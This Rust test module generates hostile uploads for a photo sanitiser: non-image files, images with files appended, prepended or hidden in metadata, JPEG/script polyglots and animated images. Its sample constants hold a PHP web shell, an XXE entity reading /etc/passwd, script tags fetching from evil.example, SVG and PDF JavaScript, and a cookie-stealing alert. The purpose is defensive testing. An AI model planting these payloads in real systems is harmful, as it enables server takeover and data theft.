//! Files that aren't photos: alone, after a photo, before one, within one.

use image::ImageFormat;
use rand::RngExt as _;
use rand::rngs::SmallRng;
use rand::seq::IndexedRandom as _;

use super::file::Hostile;
use super::good::{
    WEBP_SIDE, any, extended, name, noise, picture, riff_chunk, webp_pixels, with_chunk,
    with_segment,
};

/// Signatures that identify a file wherever they stand.
const OTHERS: &[(&str, &[u8])] = &[
    ("HTML", b"<!DOCTYPE html><html><body><script>fetch('//evil.example')</script></body></html>"),
    ("SVG", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>"),
    ("XML and SVG", b"<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>\n<svg>&a;</svg>"),
    ("PHP", b"<?php system($_GET['c']); __halt_compiler(); ?>"),
    ("PDF", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"),
    ("ZIP", b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\0\0aaPK\x01\x02\x14\0PK\x05\x06\0\0\0\0\x01\0\x01\0\x2F\0\0\0\x20\0\0\0\0\0"),
    ("RAR", b"Rar!\x1A\x07\x01\0\x33\x92\xB5\xE5\x0A\x01\x05\x06\0\x05\x01\x01\x80\x80\0"),
    ("7z", b"7z\xBC\xAF\x27\x1C\0\x04\x5B\x38\xBE\xF9\x59\x0E\0\0\0\0\0\0"),
    ("xz", b"\xFD7zXZ\0\0\x04\xE6\xD6\xB4\x46"),
    ("ELF", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3E\0\x01\0\0\0"),
    ("PE", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0This program cannot be run in DOS mode.\r\r\n$"),
];

/// Signatures that identify a file at its start or after a picture.
const AT_START: &[(&str, &[u8])] = &[
    ("GIF", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xFF\xFF\xFF!\xF9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"),
    ("TIFF", b"II*\0\x08\0\0\0\0\0"),
    ("BMP", b"BM\x3A\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0"),
    ("gzip", b"\x1F\x8B\x08\0\0\0\0\0\0\x03"),
    ("a Java class", b"\xCA\xFE\xBA\xBE\0\0\0\x34"),
    ("a shell script", b"#!/bin/sh\nid\n"),
    ("an Office document", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0"),
    ("WebAssembly", b"\0asm\x01\0\0\0"),
    ("Matroska", b"\x1A\x45\xDF\xA3\x01\0\0\0"),
];

/// Formats that may follow a JPEG.
const ALONE: &[(&str, &[u8])] = &[
    ("ICO", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0"),
    ("HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
    ("AVIF", b"\0\0\0\x1Cftypavif\0\0\0\0avifmif1miaf"),
    ("MP4", b"\0\0\0\x18ftypmp42\0\0\0\0isommp42"),
    ("AVI", b"RIFF\x24\0\0\0AVI LIST"),
    ("JPEG XL", b"\xFF\x0A\xFA\x1F\x41\x91\x08\x06"),
    ("JPEG 2000", b"\0\0\0\x0CjP  \r\n\x87\n"),
    ("PSD", b"8BPS\0\x01\0\0\0\0\0\0\0\x03"),
    ("text", b"Dear support, this is not a photo."),
    ("a script's text", b"alert(document.cookie)//"),
    (
        "EICAR",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ),
    ("the start of a JPEG", b"\xFF\xD8"),
    ("the start of a PNG", b"\x89PNG\r\n\x1A\n"),
    ("the start of a WebP", b"RIFF\0\0\0\0WEBP"),
    ("zeros", &[0; 300]),
];

/// How everything that hides in a photo begins, in bytes and in UTF-16. No stored photo may contain it.
pub fn beginnings() -> impl Iterator<Item = Vec<u8>> {
    let hidden = OTHERS.iter().chain(AT_START).map(|(_, bytes)| *bytes);
    hidden.flat_map(|bytes| {
        let start = bytes.iter().copied().take(8);
        [
            start.clone().collect(),
            start.flat_map(|byte| [byte, 0]).collect(),
        ]
    })
}

fn one_of(
    rng: &mut SmallRng,
    lists: &[&[(&'static str, &'static [u8])]],
) -> (&'static str, Vec<u8>) {
    let all = lists.concat();
    let (name, bytes) = all.choose(rng).copied().unwrap_or_default();
    // Makes each file unique.
    let tail = format!("\n{:016x}\n", rng.random::<u64>());
    (name, [bytes, tail.as_bytes()].concat())
}

/// A file that isn't a photo.
pub fn alone(rng: &mut SmallRng) -> Hostile {
    let (name, mut bytes) = match rng.random_range(0..8) {
        0 => ("noise", [&b"?"[..], &noise(rng, 100_000)].concat()),
        _ => one_of(rng, &[OTHERS, AT_START, ALONE]),
    };
    bytes.extend(noise(rng, 500));
    Hostile::refused("no photo", name, bytes)
}

/// A photo with another file after it.
pub fn appended(rng: &mut SmallRng) -> Hostile {
    let (format, picture) = any(rng);
    let gap = match rng.random() {
        true => vec![0; rng.random_range(0..9)],
        false => noise(rng, 5_000),
    };
    let (name, other) = one_of(rng, &[OTHERS, AT_START]);
    let bytes = [picture, gap, other, noise(rng, 200)].concat();
    Hostile::rewritten("appended", format!("{format} and {name}"), bytes)
}

/// A photo with another file before it.
pub fn prepended(rng: &mut SmallRng) -> Hostile {
    let (format, picture) = any(rng);
    let (name, other) = one_of(rng, &[OTHERS, AT_START, ALONE]);
    let bytes = [other, picture].concat();
    Hostile::refused("prepended", format!("{name} and {format}"), bytes)
}

/// A photo with another file in its metadata.
pub fn within(rng: &mut SmallRng) -> Hostile {
    let (name, mut other) = one_of(rng, &[OTHERS, AT_START]);
    if other.starts_with(b"<") && rng.random() {
        other = other.iter().flat_map(|byte| [*byte, 0]).collect();
    }
    let other = [noise(rng, 3_000), b"\x01".to_vec(), other].concat();
    let (place, bytes) = match rng.random_range(0..3) {
        0 => {
            let marker = *[0xE1, 0xE2, 0xE5, 0xEC, 0xED, 0xEE, 0xEF, 0xFE]
                .choose(rng)
                .unwrap_or(&0xFE);
            (
                format!("segment {marker:X}"),
                with_segment(&picture(rng, ImageFormat::Jpeg), marker, &other),
            )
        }
        1 => {
            let chunk = *[b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP", b"prVt"]
                .choose(rng)
                .unwrap_or(&b"tEXt");
            let png = picture(rng, ImageFormat::Png);
            (
                format!("chunk {}", String::from_utf8_lossy(chunk)),
                with_chunk(&png, chunk, &other),
            )
        }
        _ => {
            let chunk = *[b"XMP ", b"EXIF", b"ICCP", b"MORE"]
                .choose(rng)
                .unwrap_or(&b"XMP ");
            let chunks = [webp_pixels(rng), riff_chunk(chunk, &other)];
            (
                format!("chunk {}", String::from_utf8_lossy(chunk)),
                extended(0, WEBP_SIDE, &chunks),
            )
        }
    };
    Hostile::rewritten("within", format!("{name} in {place}"), bytes)
}

/// Two pictures in one file, or a picture whose first bytes are a script.
pub fn two_heads(rng: &mut SmallRng) -> Hostile {
    let jpeg = picture(rng, ImageFormat::Jpeg);
    if rng.random_range(0..3) == 0 {
        // The header's length reads as the start of a comment.
        let (start, rest) = jpeg.split_at_checked(20).unwrap_or_default();
        let header = start.get(6..).unwrap_or_default();
        let padding = vec![b' '; 0x2F2A - 2 - header.len()];
        let comment = b"\xFF\xFE\0\x1D*/=alert('a script');/*****";
        let bytes = [b"\xFF\xD8\xFF\xE0/*", header, &padding, comment, rest].concat();
        return Hostile::rewritten("two heads", "a JPEG that is a script", bytes);
    }
    let format = *[ImageFormat::Png, ImageFormat::WebP]
        .choose(rng)
        .unwrap_or(&ImageFormat::Png);
    let other = picture(rng, format);
    let bytes = match rng.random() {
        true => [other, jpeg].concat(),
        false => [jpeg, other].concat(),
    };
    Hostile::rewritten("two heads", format!("a JPEG and a {}", name(format)), bytes)
}

/// An animated picture.
pub fn moving(rng: &mut SmallRng) -> Hostile {
    let png = picture(rng, ImageFormat::Png);
    let frames = rng.random_range(1..200_u32).to_be_bytes();
    let frame = riff_chunk(b"ANMF", &[&[0; 16][..], &webp_pixels(rng)].concat());
    let (name, bytes) = match rng.random_range(0..4) {
        0 => (
            "an animated PNG",
            with_chunk(&png, b"acTL", &[frames, [0; 4]].concat()),
        ),
        1 => ("a frame in a PNG", with_chunk(&png, b"fcTL", &[0; 26])),
        2 => (
            "an animated WebP",
            extended(
                0x02,
                200,
                &[riff_chunk(b"ANIM", &[0; 6]), frame.clone(), frame],
            ),
        ),
        _ => (
            "a WebP that says that it moves",
            extended(0x02, 200, &[webp_pixels(rng)]),
        ),
    };
    Hostile::refused("moving", name, bytes)
}
